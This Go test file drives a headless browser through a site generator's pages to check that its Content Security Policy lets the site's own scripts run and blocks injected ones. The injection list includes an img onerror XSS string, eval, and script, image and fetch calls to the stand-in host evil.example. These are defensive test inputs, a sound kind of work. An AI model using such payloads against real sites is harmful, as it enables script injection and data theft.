package main

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"
	"github.com/pelletier/go-toml/v2"

	"incidentarchive/generator/internal/browsertest"
)

// checkPolicy uses what has a script, under the headers that the site is served
// with, and looks that these headers stop what they are there for.
func checkPolicy(t *testing.T, ctx context.Context, watch *browsertest.Watch, address string) {
	short, cancel := context.WithTimeout(ctx, 2*time.Minute)
	defer cancel()
	var found, first, rows, all int
	var yaml, at string
	const shown = `document.querySelectorAll("table.rows tbody tr:not([hidden])").length`
	err := chromedp.Run(short,
		// The search, with a filter and a phrase, which load further scripts.
		chromedp.Navigate(address+"search/?q=post"), chromedp.WaitVisible(".search-list a"),
		chromedp.Evaluate(`document.querySelectorAll(".search-list a").length`, &first),
		chromedp.Navigate(address+`search/?q=%22Post+Luxembourg%22+type%3Aattack`), chromedp.WaitVisible(".search-list a"),
		chromedp.Evaluate(`document.querySelectorAll(".search-list a").length`, &found),
		// A list with a filter.
		chromedp.Navigate(address+"incidents/"), chromedp.WaitReady("form.filters"), chromedp.Evaluate(shown, &all),
		chromedp.Evaluate(`(() => { const s = document.querySelector("form.filters").elements.type; s.value = "attack"; s.dispatchEvent(new Event("change", { bubbles: true })) })()`, nil),
		chromedp.Evaluate(shown, &rows), chromedp.Location(&at),
		// The record builder.
		chromedp.Navigate(address+"contribute/builder/"), chromedp.WaitVisible(".builder-result"),
		chromedp.Evaluate(`(() => { const l = [...document.querySelectorAll("label")].find(l => l.textContent.startsWith("Title")), i = document.getElementById(l.htmlFor); i.value = "Outage"; i.dispatchEvent(new Event("input", { bubbles: true })) })()`, nil),
		chromedp.Text(".builder-result pre", &yaml))
	if err != nil {
		watch.Report(t, "scripts")
		t.Fatalf("%v: %d found, %d of %d rows", err, found, rows, all)
	}
	if first == 0 || found == 0 || rows == 0 || rows >= all || !strings.HasSuffix(at, "?type=attack") || !strings.Contains(yaml, "Outage") {
		t.Errorf("%d and %d found, %d of %d rows at %s, the builder wrote %q", first, found, rows, all, at, yaml)
	}
	watch.Report(t, "scripts")

	// Injected scripts do not run, by whatever way; each is reported.
	var outcome []string
	err = chromedp.Run(short, chromedp.Navigate(address+"search/?q=post"), chromedp.WaitVisible(".search-list a"), chromedp.Evaluate(`(async () => {
  const reports = [];
  document.addEventListener("securitypolicyviolation", e => reports.push(e.effectiveDirective));
  const tries = [
    () => { document.body.innerHTML = "<img src=x onerror=window.ran=1>" },
    () => { document.body.insertAdjacentHTML("beforeend", "<p>x</p>") },
    () => { const s = document.createElement("script"); s.textContent = "window.ran=1"; document.body.append(s) },
    () => { const s = document.createElement("script"); s.src = "https://evil.example/x.js"; document.body.append(s) },
    () => { trustedTypes.createPolicy("other", {}) },
    () => { const p = document.createElement("p"); p.setAttribute("style", "color:red"); document.body.append(p) },
    () => { const i = document.createElement("img"); i.src = "https://evil.example/x.png"; document.body.append(i) },
    () => fetch("https://evil.example/").catch(() => {}),
    () => { new Worker("data:,") },
    () => { const f = document.createElement("iframe"); f.src = "data:text/html,x"; document.body.append(f) },
    () => { eval("window.ran=1") },
  ];
  let stopped = 0;
  for (const t of tries) { try { await t() } catch { stopped++ } }
  await new Promise(r => setTimeout(r, 200));
  return [String(window.ran), String(stopped), ...new Set(reports)].map(String)
})()`, &outcome, func(p *runtime.EvaluateParams) *runtime.EvaluateParams {
		return awaited(p).WithAllowUnsafeEvalBlockedByCSP(false) // as scripts of the page, not of the debugger
	}))
	if err != nil {
		t.Fatal(err)
	}
	if outcome[0] != "undefined" {
		t.Errorf("an injected script ran: %q", outcome)
	}
	reports := strings.Join(outcome[2:], " ")
	for _, want := range []string{"require-trusted-types-for", "trusted-types", "style-src-attr", "img-src", "connect-src", "frame-src"} {
		if !strings.Contains(reports, want) {
			t.Errorf("nothing was reported about %s: %s", want, reports)
		}
	}
	watch.Take()

	checkFrames(t, short, watch, address)
}

// checkFrames visits the site from the page of another: cards, badges and data
// are for it, pages are not.
func checkFrames(t *testing.T, ctx context.Context, watch *browsertest.Watch, address string) {
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, `<!DOCTYPE html><title>Other</title><iframe name="card" src="%[1]sembed/post-mobile.html"></iframe><iframe name="page" src="%[1]sabout/"></iframe><img id="badge" src="%[1]sembed/post-mobile.svg"><img id="picture" src="%[1]sfavicon.svg">`, address)
	}))
	defer other.Close()
	var seen []string
	err := chromedp.Run(ctx, chromedp.Navigate(other.URL), chromedp.WaitReady("#picture"), chromedp.Evaluate(`(async () => {
  await new Promise(r => document.readyState === "complete" ? r() : addEventListener("load", r));
  const get = async (url) => { try { return String((await fetch(url)).status) } catch { return "refused" } };
  return [
    String(document.getElementById("badge").naturalWidth > 0), String(document.getElementById("picture").naturalWidth > 0),
    await get("`+address+`api/v1/index.json"), await get("`+address+`data/incidents.csv"), await get("`+address+`about/"),
  ] })()`, &seen, awaited))
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Join(seen, " "); got != "true false 200 200 refused" {
		t.Errorf("a badge, a picture, two data files and a page from another site: %s", got)
	}
	refused := strings.Join(watch.Take(), "\n")
	if !strings.Contains(refused, "frame-ancestors 'none'") || strings.Contains(refused, "post-mobile") {
		t.Errorf("want the page refused in a frame and the card shown, got:\n%s", refused)
	}
}

// TestNetlifyLeavesHeadersToTheSite: the published file of headers and those of
// netlify.toml would both be sent, and a value that is sent twice is ignored.
func TestNetlifyLeavesHeadersToTheSite(t *testing.T) {
	for _, name := range []string{"../netlify.toml", "internal/starter/files/netlify.toml"} {
		source, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		var file map[string]any
		if err := toml.Unmarshal(source, &file); err != nil {
			t.Fatal(err)
		}
		if file["headers"] != nil || file["build"] == nil {
			t.Errorf("%s has headers of its own, or no build", name)
		}
	}
}
